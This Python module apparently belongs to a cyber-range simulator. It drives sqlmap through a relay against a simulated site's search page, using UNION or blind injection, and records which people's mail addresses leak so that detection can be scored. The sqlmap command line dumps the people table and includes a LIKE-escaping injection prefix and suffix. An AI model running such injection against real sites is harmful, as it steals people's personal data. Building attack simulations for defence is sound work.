"""The real sqlmap at the public search, by UNION or blind; whom it learned of is read from what came back.

By UNION people's mail addresses stand in the replies. Blind, a reply is one bit: a person is received when
sqlmap has a whole mail address together, and from then on which the last reply before that was read.
"""

from __future__ import annotations

import re
import subprocess
import threading
from urllib.parse import quote

from range.client import Client, Reply, now
from range.errors import RangeError
from range.intruders.attack import Attack
from range.intruders.relay import Relay
from range.loopback import intruder_addresses
from range.people.words import MAIL_DOMAINS, PREFECTURES
from range.programs import dies_with_us, find_program

_MAIL = re.compile(rb"[a-z]+\.(\d+)@(?:%s)" % b"|".join(re.escape(each.encode()) for each in MAIL_DOMAINS))
_TOLD = re.compile(rb"retrieved: (?:%s)\s*$" % _MAIL.pattern)
#: How a word inside LIKE is left and closed again; sqlmap finds that out only with hundreds of requests.
_INSIDE_LIKE = ("--prefix=%'", "--suffix= AND '%'='")
_DATABASES = {"postgresql": "PostgreSQL", "mariadb": "MySQL"}


def by_union(attack: Attack) -> None:
    """Let sqlmap read people through the rows that the search prints."""
    if not attack.place.site.searched.prints_errors:
        message = f"The search of the {attack.place.site.name} prints no rows."
        raise RangeError(message, "choose the insurer, or sqlmap-blind.")
    columns = len(attack.place.site.searched.shown)
    _Injection(attack, bits=False).run("--technique=U", f"--union-cols={columns}")


def blind(attack: Attack) -> None:
    """Let sqlmap guess people's mail addresses by yes and no."""
    _Injection(attack, bits=True).run("--technique=B", *_INSIDE_LIKE)


class _Injection:
    """One run of sqlmap through a relay; it is ended when it has had its requests."""

    def __init__(self, attack: Attack, *, bits: bool) -> None:
        self._attack, self._bits = attack, bits
        self._count, self._last = 0, now()
        self._enough, self._one = threading.Event(), threading.Lock()

    def run(self, *words: str) -> None:
        place = self._attack.place
        clients = [Client(place.url, each) for each in intruder_addresses(self._attack.addresses)]
        relay = Relay(clients, self._see)
        sqlmap = self._start(relay, words)
        with relay.answering(), sqlmap:
            ender = threading.Thread(target=self._end, args=[sqlmap])
            ender.start()
            for line in sqlmap.stdout or ():
                self._hear(line)
            self._enough.set()
            ender.join()

    def _start(self, relay: Relay, words: tuple[str, ...]) -> subprocess.Popen[bytes]:
        place, people = self._attack.place, self._attack.place.site.people
        searched = place.site.searched
        target = (
            f"{place.url}{searched.path}?{searched.narrowed}={quote(PREFECTURES[0])}&q={quote(searched.word)}"
        )
        output = place.folder / "sqlmap" / f"{place.site.name}-{relay.url.rsplit(':')[-1]}"
        schema = "public" if place.site.engine == "postgresql" else place.site.name
        command = [
            find_program("sqlmap"), "-u", target, "-p", "q", "--batch", "--flush-session",
            "--disable-coloring",
            f"--dbms={_DATABASES[place.site.engine]}", f"--proxy={relay.url}", f"--output-dir={output}",
            "-D", schema, "-T", people.table, "-C", self._columns(), "--dump",
            f"--delay={1 / self._attack.rate:.3f}", *words,
        ]  # fmt: skip
        output.mkdir(parents=True)
        # Before the relay's threads are started.
        return subprocess.Popen(
            command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, stdin=subprocess.DEVNULL,
            preexec_fn=dies_with_us(),  # noqa: PLW1509
        )  # fmt: skip

    def _columns(self) -> str:
        people = self._attack.place.site.people
        return people.mail if self._bits else f"{people.key},{people.mail},{people.name}"

    def _see(self, client: Client, reply: Reply) -> None:
        people = [] if self._bits else [int(found) for found in _MAIL.findall(reply.body)]
        self._attack.truth.note(client, reply, people=people)
        with self._one:
            self._count, self._last = self._count + 1, reply.at
            if self._count >= self._attack.requests:
                self._enough.set()

    def _hear(self, line: bytes) -> None:
        found = _TOLD.search(line)
        if self._bits and found:
            self._attack.truth.deduce(self._last, int(found[1]))

    def _end(self, sqlmap: subprocess.Popen[bytes]) -> None:
        self._enough.wait()
        sqlmap.terminate()
